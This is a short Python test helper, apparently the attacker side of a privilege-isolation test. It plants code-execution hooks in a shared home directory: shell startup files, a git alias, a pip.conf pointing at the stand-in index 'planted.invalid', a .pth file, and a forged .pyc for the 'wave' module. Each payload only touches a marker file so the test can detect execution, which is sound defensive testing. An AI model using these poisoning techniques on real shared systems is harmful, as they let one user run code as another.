"""COMMAND of tests/privilege/attacker/operator.rs: leaves in /cache and in memory what programs read at their start, and waits."""

import importlib.util
import marshal
import os
import struct
import sys
import time

SITE = f"/cache/.local/lib/python3.{sys.version_info.minor}/site-packages"


def ran(name):
    return f"import os; open(f'/tmp/ran-{name}-{{os.getuid()}}', 'w').close()\n"


def put(path, words):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(words if isinstance(words, bytes) else words.encode())


for name in ("bashrc", "bash_profile", "profile"):
    put(f"/cache/.{name}", f"touch /tmp/ran-{name}-$(id -u)\n")
put("/cache/.gitconfig", '[alias]\n\tst = "!touch /tmp/ran-git-$(id -u)"\n[safe]\n\tdirectory = *\n')
put("/cache/.config/pip/pip.conf", "[global]\nindex-url = http://planted.invalid/\n")
put(f"{SITE}/planted.pth", ran("pth"))
sys.pycache_prefix = "/tmp/pycache"
source = importlib.util.find_spec("wave").origin
seen = os.stat(source)
code = marshal.dumps(compile(ran("pyc"), source, "exec"))
head = importlib.util.MAGIC_NUMBER + struct.pack("<3I", 0, int(seen.st_mtime), seen.st_size)
put(importlib.util.cache_from_source(source), head + code)
print("planted", flush=True)
time.sleep(600)
